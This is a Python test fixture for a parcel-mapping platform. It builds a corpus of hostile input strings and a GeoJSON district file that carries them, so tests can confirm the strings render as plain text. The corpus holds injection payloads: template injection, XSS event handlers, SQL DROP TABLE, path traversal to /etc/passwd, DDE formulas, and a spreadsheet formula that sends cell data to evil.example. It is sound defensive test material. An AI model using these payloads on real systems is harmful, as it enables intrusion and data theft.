"""The hostile-strings corpus (STYLE.md, "Data is never code") and a district file carrying it.

Every text a visitor or staff member can make the platform store or echo goes through these
strings in tests: template syntax (a second Jinja pass would evaluate it), script breakers, HTML
event handlers, javascript: URLs, line and paragraph separators, bidirectional overrides, long
text, spreadsheet formulas, SQL and path fragments. A test renders them and checks they come
back as the same text, and that nothing was evaluated.
"""

import json
from pathlib import Path

# name -> text. Keep each distinct so a test can tell which one leaked.
HOSTILE = {
    "jinja_expression": "X{{ 7*7 }}Y {{ lipsum.__globals__['os'].__name__ }}",
    "jinja_statement": "A{% if true %}evaluated{% endif %}B {% raw %}",
    "jinja_comment": "C{# hidden #}D {#",
    "script_close": "</script><script>window.__pwned=1</script>",
    "img_onerror": "<img src=x onerror=\"window.__pwned=2\">",
    "svg_onload": "<svg/onload=window.__pwned=3>",
    "javascript_url": "javascript:window.__pwned=4",
    "attribute_break": "\" onmouseover=\"window.__pwned=5\" x=\"",
    "single_quote_break": "' onfocus='window.__pwned=6' autofocus '",
    "line_separators": "line\u2028separator\u2029paragraph",
    "rtl_override": "\u202egnp.exe\u202c 正常",
    "formula_hyperlink": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql_fragment": "'; DROP TABLE parcels; --",
    "sql_like": "%_\\' OR 1=1 --",
    "path_fragment": "../../../../etc/passwd",
    "null_and_controls": "a\x01b\tc",
    "long_text": "长" * 10_000,
}

# Markers whose presence in a rendered page means a template was evaluated.
EVALUATED_MARKERS = ("X49Y", "AevaluatedB", "CD ")

# Attribute columns that hold free text (code must stay unique and short enough for a URL).
TEXT_FIELDS = ("name", "street", "location", "contact", "note")


def hostile_items() -> list[tuple[str, str]]:
    """(name, text) pairs of the corpus, for pytest.mark.parametrize."""
    return list(HOSTILE.items())


def _square(index: int) -> dict:
    """A 100 m square parcel near 马鞍山, one per index, side by side."""
    lon0, lat0, step = 118.50 + 0.0015 * (index % 10), 31.70 + 0.0015 * (index // 10), 0.001
    ring = [[lon0, lat0], [lon0 + step, lat0], [lon0 + step, lat0 + step],
            [lon0, lat0 + step], [lon0, lat0]]
    return {"type": "Polygon", "coordinates": [ring]}


def hostile_feature_collection() -> dict:
    """A district with one parcel per corpus string, the string in every text field.

    Codes are H-00..H-nn plus the (short) corpus text so the code field is hostile too, while
    staying unique; the long text goes into the other fields only.
    """
    features = []
    for index, (key, text) in enumerate(HOSTILE.items()):
        code_text = text if len(text) <= 200 else text[:200]
        properties = {field: text for field in TEXT_FIELDS}
        properties.update(code=f"H-{index:02d} {code_text}", land_use="100101",
                          status="available", extra_note=text)
        features.append({"type": "Feature", "properties": properties,
                         "geometry": _square(index), "id": key})
    return {"type": "FeatureCollection", "features": features}


def write_hostile_district(folder: Path) -> Path:
    """The hostile district as a GeoJSON file in folder."""
    path = folder / "hostile.geojson"
    path.write_text(json.dumps(hostile_feature_collection(), ensure_ascii=False),
                    encoding="utf-8")
    return path
